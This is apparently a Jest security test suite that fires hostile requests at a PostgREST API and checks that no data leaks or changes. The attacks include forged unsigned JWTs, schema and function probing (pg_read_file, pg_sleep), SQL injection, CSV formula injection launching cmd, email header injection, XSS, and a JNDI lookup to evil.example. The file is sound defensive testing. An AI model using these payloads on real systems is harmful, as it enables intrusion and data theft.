/**
 * What somebody with the public key and bad intentions could send through PostgREST into the migrations
 * of production: whatever is answered, nothing is read, changed, or stored beyond the rules.
 */
import fc from 'fast-check';
import {isLong} from '../../../scripts/jest/long.ts';
import {LOCAL_PUBLISHABLE_KEY} from '../../../src/config/publicEnv.ts';
import {type Database, openDatabase} from '../../database/database.ts';
import {startTemporaryPostgres, type TemporaryPostgres} from '../../testing/temporaryDatabase.ts';
import {freshAddress} from '../../testing/visitor.ts';
import type {RunningServer} from '../listenLocally.ts';
import {startTableApi} from '../tableApi.ts';

jest.setTimeout(600_000);

let server: TemporaryPostgres;
let api: RunningServer;
let database: Database;

interface Attempt {
  readonly method?: string;
  readonly path: string;
  readonly headers?: Readonly<Partial<Record<string, string>>>;
  readonly body?: string | Buffer<ArrayBuffer>;
}

/** Each from an address of its own: the limit per client has tests elsewhere. */
const send = ({method = 'POST', path, headers, body}: Attempt): Promise<Response> =>
  fetch(`${api.url}/rest/v1/${path}`, {
    method,
    headers: {
      apikey: LOCAL_PUBLISHABLE_KEY,
      'content-type': 'application/json',
      'x-forwarded-for': freshAddress(),
      ...(headers as Record<string, string> | undefined),
    },
    body: method === 'GET' || method === 'HEAD' ? undefined : body,
  });

const json = (value: unknown): string => JSON.stringify(value);
const NEWSLETTER = 'newsletter_subscriptions';
const CONTACT = 'contact_messages';
const MESSAGE = {first_name: 'Dana', last_name: 'Fo', email: 'dana@example.com', message: 'Hello'};
const CANARY = {email: 'canary.7f3a@example.com', message: 'The canary sings in room 7f3a.'};

/** Both tables and all that is in them, with the count of requests left out. */
const contents = (): Promise<unknown> =>
  database.transaction((session) =>
    session.query(
      `select (select json_agg(n order by n.id) from public.newsletter_subscriptions n) as readers,
              (select json_agg(m order by m.id) from public.contact_messages m) as messages`,
    ),
  );

beforeAll(async () => {
  server = await startTemporaryPostgres();
  const databaseUrl = await server.createMigratedDatabase();
  database = openDatabase(databaseUrl);
  api = await startTableApi({port: 0, databaseUrl, log: () => undefined});
  const planted = [
    await send({path: NEWSLETTER, body: json({email: CANARY.email})}),
    await send({path: CONTACT, body: json({...MESSAGE, ...CANARY})}),
  ];
  expect(planted.map(({status}) => status)).toEqual([201, 201]);
});
afterAll(async () => {
  await api?.close();
  await database?.close();
  server?.stop();
});

const rows: Readonly<Record<string, object>> = {
  [NEWSLETTER]: {email: 'forged@example.com'},
  [CONTACT]: MESSAGE,
};
const onBoth = (make: (table: string, row: object) => readonly Attempt[]): Attempt[] =>
  Object.entries(rows).flatMap(([table, row]) => make(table, row));

const QUERIES = [
  '',
  '?select=*',
  '?select=email.max()',
  `?email=eq.${CANARY.email}`,
  '?or=(email.like.*a*,email.like.*b*)',
  '?select=*,contact_messages(*)',
  '?limit=1',
];
const READ_HEADERS = [
  {prefer: 'count=exact'},
  {accept: 'text/csv'},
  {accept: 'application/vnd.pgrst.object+json'},
  {accept: 'application/vnd.pgrst.plan+json; options=analyze'},
  {range: '0-0', 'range-unit': 'items'},
  {'x-http-method-override': 'GET'},
  {role: 'service_role'},
  {cookie: 'role=service_role'},
];
const FORGED = Object.entries({
  [NEWSLETTER]:
    'created_at consented_at consent_version confirmed_at unsubscribed_at confirm_token',
  [CONTACT]: 'created_at answered_at answer_token ctid xmin role Email __proto__',
}).flatMap(([table, columns]) => columns.split(' ').map((column) => [table, column] as const));

const encode = (value: object): string => Buffer.from(json(value)).toString('base64url');
const TOKENS = ['service_role', 'postgres', 'authenticated', 'anon', ''].flatMap((role) =>
  ['HS256', 'none', 'RS256'].map((alg) => `${encode({alg})}.${encode({role})}.c2lnbmF0dXJl`),
);

const ATTACKS: Readonly<Record<string, readonly Attempt[]>> = {
  reading: onBoth((path) => [
    ...QUERIES.flatMap((query) => ['GET', 'HEAD'].map((method) => ({method, path: path + query}))),
    ...READ_HEADERS.map((headers) => ({method: 'GET', path, headers})),
  ]),
  'asking back what was inserted': onBoth((path, row) =>
    ['return=representation', 'return=headers-only'].flatMap((prefer) =>
      QUERIES.map((query) => ({path: path + query, headers: {prefer}, body: json(row)})),
    ),
  ),
  'changing and deleting': onBoth((path, row) =>
    QUERIES.flatMap((query) => [
      {method: 'PATCH', path: path + query, body: json({email: 'taken.over@example.com'})},
      {method: 'DELETE', path: path + query},
      {method: 'PUT', path: `${path}?id=eq.${crypto.randomUUID()}`, body: json(row)},
    ]),
  ),
  'inserting over a row': onBoth((path, row) =>
    ['merge-duplicates', 'ignore-duplicates'].flatMap((resolution) =>
      ['', '?on_conflict=id', '?on_conflict=email'].map((query) => ({
        path: path + query,
        headers: {prefer: `resolution=${resolution}`},
        body: json({...row, email: CANARY.email}),
      })),
    ),
  ),
  'more than one row a request': onBoth((path, row) => {
    const two = json([row, {...row, email: 'second@example.com'}]);
    const names = Object.keys(row).join();
    const line = Object.values(row).join();
    return [
      {path, body: two},
      {path: `${path}?columns=${names}`, body: two},
      {path, body: two, headers: {prefer: 'missing=default'}},
      {path, body: `${names}\n${line}\n${line}\n`, headers: {'content-type': 'text/csv'}},
      {path, body: json(Array.from({length: 5_000}, () => row))},
    ];
  }),
  'columns that are not the visitor’s to set': FORGED.flatMap(([path, column]) => {
    // Not an object: __proto__ would be no column of one.
    const body = json(rows[path] ?? {}).replace('{', `{${json(column)}:null,`);
    return [
      {path, body},
      {path, body: `[${body}]`},
    ];
  }),
  'tokens that nobody signed': TOKENS.flatMap((token) => [
    {method: 'GET', path: NEWSLETTER, headers: {authorization: `Bearer ${token}`}},
    {path: NEWSLETTER, headers: {authorization: `Bearer ${token}`}, body: json(rows[NEWSLETTER])},
    {path: NEWSLETTER, headers: {apikey: token}, body: json(rows[NEWSLETTER])},
  ]),
  'other schemas, tables, and functions': [
    ...['private', 'pg_catalog', 'public,private'].flatMap((schema) => [
      {method: 'GET', path: 'settings', headers: {'accept-profile': schema}},
      {path: CONTACT, headers: {'content-profile': schema}, body: json(MESSAGE)},
    ]),
    ...['settings', 'insert_log', 'schema_migrations', 'pg_authid', 'private.settings', ''].map(
      (path) => ({method: 'GET', path}),
    ),
    ...['client_hash', 'as_token', 'add_job', 'pg_sleep', 'set_config', 'pg_read_file'].flatMap(
      (name) => [
        {path: `rpc/${name}`, body: json({written: 'x', seconds: 60})},
        {method: 'GET', path: `rpc/${name}?written=x`},
      ],
    ),
    {method: 'GET', path: 'rpc/mark_answered?token=x'},
  ],
  'bodies that are no row': [
    ...['', '{', '"text"', '1', 'null', '[1]', '[]', '{}', '[[]]', '\u0000', '<xml/>'],
    ...['['.repeat(100_000), `{"email":${'['.repeat(100_000)}1${']'.repeat(100_000)}}`],
    Buffer.from([0x7b, 0xff, 0x7d]),
    Buffer.from('{"email":"a@example.com"}', 'utf16le'),
  ].flatMap((body) => [
    {path: NEWSLETTER, body},
    {path: NEWSLETTER, body, headers: {'content-type': 'application/xml'}},
  ]),
};

it.each(Object.entries(ATTACKS))('%s: changes nothing and shows nothing', async (_, attempts) => {
  const before = await contents();
  for (const attempt of attempts) {
    const answer = await send(attempt);
    const text = await answer.text();
    // Refused is not broken.
    if (answer.status >= 500) throw new Error(`${json(attempt).slice(0, 300)}: ${text}`);
    expect(text).not.toMatch(/canary|sings in room/);
  }
  expect(await contents()).toEqual(before);
});

/** What is put somewhere into an address. */
const PIECES = [
  "'; drop table newsletter_subscriptions;--",
  "'||pg_sleep(10)--",
  '=1+1',
  '\t=cmd|’/c calc’!A1',
  '\r\nBcc: all@example.com',
  '\u0085',
  '\u0000',
  '\u200b',
  '\u202e',
  '\u212a',
  '\u0130',
  'а',
  '＠',
  '\ud800',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '@',
  '..',
  ', b@example.com',
  ' ',
  '"',
  '(comment)',
  'A',
  '+tag',
  'x'.repeat(300),
] as const;

/** Addresses with something in them that nobody means well with; each with a number of its own. */
const hostileEmails = (count: number): string[] =>
  fc
    .sample(
      fc.record({
        piece: fc.oneof(
          fc.constantFrom(...PIECES),
          fc.string({unit: 'binary', maxLength: 6}),
          fc.string({unit: 'grapheme', maxLength: 3}),
        ),
        at: fc.double({min: 0, max: 1, noNaN: true}),
      }),
      {numRuns: count, seed: 59},
    )
    .map(({piece, at}, index) => {
      const address = `n${index}@mail.example.com`;
      const place = Math.round(at * address.length);
      return address.slice(0, place) + piece + address.slice(place);
    });

// HTML Standard, 'valid e-mail address', written again here on purpose: the table's own rule is what is
// being tested. A dot in the domain is the table's addition; the lengths are RFC 5321's.
const VALID =
  /^[a-z0-9.!#$%&'*+/=?^_`{|}~-]{1,64}@(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?$/;

/** What must become of the values: those that are addresses, trimmed and in lower case, each once. */
const storedOf = (values: readonly string[]): ReadonlySet<string> =>
  new Set(
    values
      .map((text) => text.replace(/^ +| +$/g, '').replace(/[A-Z]/g, (one) => one.toLowerCase()))
      .filter((text) => text.length >= 6 && text.length <= 254 && VALID.test(text)),
  );

it('stores of hostile addresses those that are addresses, as the text they are', async () => {
  const emails = hostileEmails(isLong ? 10_000 : 300);
  const queue = emails.values();
  const work = async (): Promise<void> => {
    for (const email of queue) {
      const answer = await send({path: NEWSLETTER, body: json({email, source: 'blog'})});
      const text = await answer.text();
      if (![201, 400, 409].includes(answer.status)) throw new Error(`${json(email)}: ${text}`);
    }
  };
  await Promise.all(Array.from({length: 20}, work));
  const stored = await database.transaction((session) =>
    session.query<{email: string}>(
      `select email from public.newsletter_subscriptions where source = 'blog' order by email`,
    ),
  );
  expect(storedOf(emails).size).toBeGreaterThan(emails.length / 10);
  expect(new Set(stored.map(({email}) => email))).toEqual(storedOf(emails));
});
